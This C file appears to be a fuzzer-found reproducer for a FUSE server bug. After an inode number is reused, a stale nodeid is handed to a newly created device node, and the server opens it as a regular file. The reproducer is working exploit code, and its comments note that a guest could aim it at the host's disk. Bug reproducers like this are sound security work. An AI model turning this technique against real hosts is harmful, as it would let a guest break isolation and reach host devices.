/*
 * ino_reuse_devnode.c - reproducer for a FUSE server bug found by fuzz_fuse
 * (see README in this directory): a nodeid whose host inode was deleted
 * while its O_PATH fd was closed (inode_table.h LRU) is handed out again
 * for whatever new file gets the same inode number, with the old file's
 * type.  A guest can so make the server open a device node it created in
 * the share: OPEN checks the cached type (regular file), and reopening the
 * O_PATH fd through /proc/self/fd opens the device.
 *
 * Needs a share on a filesystem that reuses inode numbers (ext4, xfs, btrfs;
 * not tmpfs) and not mounted nodev, and root (mknod).  Not built by the
 * Makefile.  From the repository root:
 *   clang -g -std=gnu11 -D_GNU_SOURCE -I. -pthread -o /tmp/ino_reuse \
 *     tests/fuzz/crashers/ino_reuse_devnode.c fuse/*.c \
 *     lib/iov.c lib/log.c
 *   d=$(mktemp -d /var/tmp/share.XXXXXX) && /tmp/ino_reuse "$d"; rm -rf "$d"
 * Exit status 1: the server opened the device node (the bug); 0: the
 * inode number was reused and the device got a nodeid of its own (fixed in
 * 4ffa868); 2: no inode number was reused (try again, or another
 * filesystem).  The device made here is 1:3 (/dev/null); a guest would pick
 * the host's disk.
 */
#include <dirent.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "fuse/fuse_server.h"

static struct fsrv *srv;
static uint64_t next_unique = 1;
static uint8_t reply[1 << 16];

static struct fuse_out_header *request(uint32_t opcode, uint64_t nodeid, const void *arg,
				       size_t len)
{
	uint8_t buf[4096];
	struct fuse_in_header h = {.len = (uint32_t)(sizeof(h) + len),
				   .opcode = opcode,
				   .unique = next_unique++,
				   .nodeid = nodeid};
	struct iovec in = {buf, h.len}, out = {reply, sizeof(reply)};

	memcpy(buf, &h, sizeof(h));
	memcpy(buf + sizeof(h), arg, len);
	fsrv_serve(srv, &in, 1, &out, 1);
	return (struct fuse_out_header *)reply;
}

static uint64_t entry_nodeid(const struct fuse_out_header *o)
{
	return o->error ? 0 : ((const struct fuse_entry_out *)(o + 1))->nodeid;
}

static uint64_t lookup(const char *name)
{
	return entry_nodeid(request(FUSE_LOOKUP, FUSE_ROOT_ID, name, strlen(name) + 1));
}

static void host_file(const char *dir, const char *name)
{
	char p[4096];

	snprintf(p, sizeof(p), "%s/%s", dir, name);
	close(open(p, O_CREAT | O_WRONLY, 0644));
}

/* Does the process hold a device node in the share open (not O_PATH)? */
static int device_open(const char *share)
{
	DIR *d = opendir("/proc/self/fd");
	char link[64], target[4096];
	struct dirent *e;
	struct stat st;
	int found = 0;

	while (d && (e = readdir(d))) {
		int fd = atoi(e->d_name);
		ssize_t n;

		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		n = readlink(link, target, sizeof(target) - 1);
		target[n > 0 ? n : 0] = 0;
		if (fd != dirfd(d) && fstat(fd, &st) == 0 && S_ISCHR(st.st_mode) &&
		    !(fcntl(fd, F_GETFL) & O_PATH) && !strncmp(target, share, strlen(share))) {
			printf("the server holds fd %d open on char device %u:%u %s\n", fd,
			       major(st.st_rdev), minor(st.st_rdev), target);
			found = 1;
		}
	}
	if (d)
		closedir(d);
	return found;
}

int main(int argc, char **argv)
{
	struct fsrv_config cfg = {.max_fds = 16};
	struct fuse_init_in init = {.major = 7, .minor = 38, .flags = ~0u};
	struct fuse_open_in open_in = {.flags = O_RDWR};
	struct fuse_out_header *o;
	char err[256], name[32];
	uint64_t victim, victim_ino;
	struct stat st;

	if (argc != 2)
		return 2;
	cfg.root = argv[1];
	if (fsrv_create(&srv, &cfg, err, sizeof(err))) {
		fprintf(stderr, "%s\n", err);
		return 2;
	}
	request(FUSE_INIT, 0, &init, sizeof(init));

	/* 1. The guest looks up a regular file: nodeid V. */
	host_file(argv[1], "victim");
	snprintf(name, sizeof(name), "%s", "victim");
	victim = lookup(name);
	{
		char p[4096];

		snprintf(p, sizeof(p), "%s/victim", argv[1]);
		victim_ino = stat(p, &st) == 0 ? st.st_ino : 0;
	}
	/* 2. 20 more lookups: V's idle O_PATH fd is closed (max_fds 16). */
	for (int i = 0; i < 20; i++) {
		snprintf(name, sizeof(name), "f%d", i);
		host_file(argv[1], name);
		lookup(name);
	}
	/* 3. It unlinks the file (and never FORGETs V): the inode number is free. */
	request(FUSE_UNLINK, FUSE_ROOT_ID, "victim", sizeof("victim"));
	/* 4. Device nodes until one gets that inode number: MKNOD answers V. */
	for (int i = 0; i < 64; i++) {
		struct {
			struct fuse_mknod_in in;
			char name[16];
		} a = {.in = {.mode = S_IFCHR | 0600, .rdev = makedev(1, 3)}};

		snprintf(a.name, sizeof(a.name), "dev%d", i);
		o = request(FUSE_MKNOD, FUSE_ROOT_ID, &a, sizeof(a.in) + strlen(a.name) + 1);
		if (o->error || ((struct fuse_entry_out *)(o + 1))->attr.ino != victim_ino)
			continue;
		if (entry_nodeid(o) != victim) {
			printf("MKNOD %s got the deleted file's inode number %llu and a nodeid of "
			       "its "
			       "own: not affected\n",
			       a.name, (unsigned long long)victim_ino);
			return 0;
		}
		printf("MKNOD %s (char 1:3) answered the deleted file's nodeid %#llx\n", a.name,
		       (unsigned long long)victim);
		/* 5. OPEN V: still a regular file for the table, so the device is opened. */
		o = request(FUSE_OPEN, victim, &open_in, sizeof(open_in));
		printf("OPEN %#llx -> %d\n", (unsigned long long)victim, o->error);
		return device_open(argv[1]);
	}
	printf("no inode number was reused\n");
	return 2;
}
